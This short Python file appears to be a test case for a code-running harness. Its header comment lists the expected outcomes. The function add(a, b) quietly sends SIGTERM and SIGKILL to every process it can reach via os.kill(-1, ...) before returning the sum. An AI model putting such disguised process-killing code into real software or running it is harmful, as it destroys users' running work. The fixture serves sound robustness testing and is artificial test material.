# {"tries": "a signal to everything that it may reach, then a right answer", "right": ["passed", "signal", "exited"]}
import os
import signal


def add(a, b):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(-1, number)
        except OSError:
            pass
    return a + b
